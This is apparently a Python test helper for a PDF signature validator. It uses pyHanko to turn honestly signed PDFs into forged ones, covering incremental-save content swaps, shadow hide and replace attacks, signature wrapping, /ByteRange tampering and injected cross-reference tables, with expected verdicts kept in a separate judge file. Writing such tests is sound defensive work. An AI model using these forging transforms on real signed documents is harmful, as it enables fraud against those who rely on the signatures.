"""Tricks on sealed PDFs of others, after the families of published attacks: one function a trick.

Each is given what pyHanko signed honestly and gives the file that an attacker would hand in. What the verdict must say of it
stands beside it in `judge_foreign.py`.
"""

import io
import re

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name, pdf_string
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.writer import PageObject

FORGED = b"BT (forged) Tj ET"


def change(pdf: bytes, how) -> bytes:
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    how(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def rectangle(*corners):
    return generic.ArrayObject(map(generic.NumberObject, corners))


def page_of(writer):
    page = writer.root["/Pages"]["/Kids"].raw_get(0).get_object()
    writer.update_container(page)
    return page


# ---- Incremental saving, shadows, certifications.


def other_content(writer):
    stream = page_of(writer).raw_get("/Contents").get_object()
    stream._data, stream._encoded_data = FORGED, None
    writer.update_container(stream)


def more_content(writer):
    page = page_of(writer)
    page["/Contents"] = generic.ArrayObject([page.raw_get("/Contents"), writer.add_object(generic.StreamObject(stream_data=FORGED))])


def annotation(writer):
    note = writer.add_object(generic.DictionaryObject({
        pdf_name("/Subtype"): pdf_name("/FreeText"), pdf_name("/Contents"): pdf_string("paid"), pdf_name("/Rect"): rectangle(0, 0, 300, 200)}))
    page_of(writer)["/Annots"].append(note)


def another_page(writer):
    content = writer.add_object(generic.StreamObject(stream_data=b"BT (slipped in) Tj ET"))
    writer.insert_page(PageObject(contents=content, media_box=(0, 0, 300, 200)))


def fill(writer):
    for reference in writer.root["/AcroForm"]["/Fields"]:
        field = reference.get_object() if hasattr(reference, "get_object") else reference
        if field.get("/T") == "text":
            field["/V"] = pdf_string("filled in")
            writer.update_container(field)


def metadata(writer):
    stream = generic.StreamObject(
        {pdf_name("/Type"): pdf_name("/Metadata"), pdf_name("/Subtype"): pdf_name("/XML")}, stream_data=b"<x/>")
    writer.root["/Metadata"] = writer.add_object(stream)
    writer.update_root()


def shown_picture(writer):
    """What covers the page is taken away: the shadow of hiding."""
    content = writer.root["/Pages"]["/Kids"].raw_get(0).get_object().raw_get("/Contents")
    writer.objects[(content.generation, content.idnum)] = generic.NullObject()


def exchanged_pages(writer):
    """The catalog leads to other pages: hiding and replacing."""
    content = writer.add_object(generic.StreamObject(stream_data=FORGED))
    page = generic.DictionaryObject({
        pdf_name("/Type"): pdf_name("/Page"), pdf_name("/MediaBox"): rectangle(0, 0, 300, 200), pdf_name("/Contents"): content})
    page = writer.add_object(page)
    pages = generic.DictionaryObject({
        pdf_name("/Type"): pdf_name("/Pages"), pdf_name("/Kids"): generic.ArrayObject([page]), pdf_name("/Count"): generic.NumberObject(1)})
    writer.root["/Pages"] = writer.add_object(pages)
    writer.update_root()


def resources(writer):
    """The words stay, the letters are others: replacing by fonts."""
    page_of(writer)["/Resources"] = generic.DictionaryObject({pdf_name("/Font"): generic.DictionaryObject({
        pdf_name("/F1"): generic.DictionaryObject({pdf_name("/Type"): pdf_name("/Font"), pdf_name("/Subtype"): pdf_name("/Type3")})})})


def layers(writer):
    writer.root["/OCProperties"] = generic.DictionaryObject({pdf_name("/OCGs"): generic.ArrayObject([]), pdf_name("/D"): generic.DictionaryObject()})
    writer.update_root()


def action(writer):
    writer.root["/OpenAction"] = generic.DictionaryObject({pdf_name("/S"): pdf_name("/JavaScript"), pdf_name("/JS"): pdf_string("forge()")})
    writer.update_root()


def sneaky_field(writer):
    """A signature field without a signature, whose looks cover the page."""
    look = writer.add_object(generic.StreamObject(
        {pdf_name("/Subtype"): pdf_name("/Form"), pdf_name("/BBox"): rectangle(0, 0, 300, 200)}, stream_data=FORGED))
    field = writer.add_object(generic.DictionaryObject({
        pdf_name("/FT"): pdf_name("/Sig"), pdf_name("/T"): pdf_string("sneaky"), pdf_name("/Subtype"): pdf_name("/Widget"),
        pdf_name("/Rect"): rectangle(0, 0, 300, 200), pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): look})}))
    page_of(writer)["/Annots"].append(field)
    form = writer.root["/AcroForm"]
    form["/Fields"].append(field)
    writer.update_container(form)
    writer.update_root()


# ---- On the bytes: forging the dictionary, saving without a table, wrapping.


def range_of(pdf: bytes):
    found = re.search(rb"/ByteRange\s*\[([^\]]*)\]", pdf)
    return found, list(map(int, found[1].split()))


def with_range(pdf: bytes, *numbers) -> bytes:
    found, _ = range_of(pdf)
    text = " ".join(map(str, numbers)).encode()
    return pdf[: found.start(1)] + text.ljust(len(found[1])) + pdf[found.end(1):]


def no_range(pdf):
    return pdf.replace(b"/ByteRange", b"/ByteRang3")


def range_of_nothing(pdf):
    return with_range(pdf, 0, 0, 0, 0)


def negative_range(pdf):
    _, [_, head, tail, rest] = range_of(pdf)
    return with_range(pdf, 0, head, -tail, rest)


def huge_range(pdf):
    _, [_, head, tail, _] = range_of(pdf)
    return with_range(pdf, 0, head, tail, 99999)


def late_range(pdf):
    _, [_, head, tail, rest] = range_of(pdf)
    return with_range(pdf, 1, head - 1, tail, rest)


def short_range(pdf):
    _, [_, head, tail, rest] = range_of(pdf)
    return with_range(pdf, 0, head, tail, rest - 60)


def wide_gap(pdf):
    _, [_, head, tail, rest] = range_of(pdf)
    return with_range(pdf, 0, head - 8, tail, rest)


def no_value(pdf):
    _, [_, head, tail, _] = range_of(pdf)
    return pdf[: head + 1] + b"0" * (tail - head - 2) + pdf[tail - 1:]


def other_name_for_the_value(pdf):
    return pdf.replace(b"/Contents <", b"/C0ntents <")


def wrapped(pdf):
    """What was signed second is moved behind something new, and the range with it."""
    _, [_, head, tail, rest] = range_of(pdf)
    new = b" 4 0 obj<</Length 17>>stream\n" + FORGED + b"\nendstream endobj "
    return with_range(pdf[:tail] + new + pdf[tail:], 0, head, tail + len(new), rest)


def saved_without_a_table(pdf):
    content = int(re.search(rb"/Contents (\d+) 0 R", pdf)[1])
    return pdf + b"%d 0 obj<</Length 17>>stream\n%s\nendstream endobj\n%%%%EOF\n" % (content, FORGED)


def saved_with_an_empty_table(pdf):
    content = int(re.search(rb"/Contents (\d+) 0 R", pdf)[1])
    start = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    root = re.findall(rb"/Root (\d+ 0 R)", pdf)[-1]
    new = b"%d 0 obj<</Length 17>>stream\n%s\nendstream endobj\n" % (content, FORGED)
    table = len(pdf) + len(new)
    trailer = b"xref\n0 0\ntrailer\n<</Root %s/Size 99/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (root, start, table)
    return pdf + new + trailer


def saved_without_the_past(pdf):
    """A table that knows the forged objects alone."""
    content = int(re.search(rb"/Contents (\d+) 0 R", pdf)[1])
    root = re.findall(rb"/Root (\d+ 0 R)", pdf)[-1]
    new = b"%d 0 obj<</Length 17>>stream\n%s\nendstream endobj\n" % (content, FORGED)
    table = len(pdf) + len(new)
    rows = b"xref\n%d 1\n%010d 00000 n \ntrailer\n<</Root %s/Size 99>>\nstartxref\n%d\n%%%%EOF\n" % (content, len(pdf), root, table)
    return pdf + new + rows


def looping(pdf):
    at = len(pdf)
    root = re.findall(rb"/Root (\d+ 0 R)", pdf)[-1]
    return pdf + b"xref\n0 0\ntrailer\n<</Root %s/Size 99/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (root, at, at)
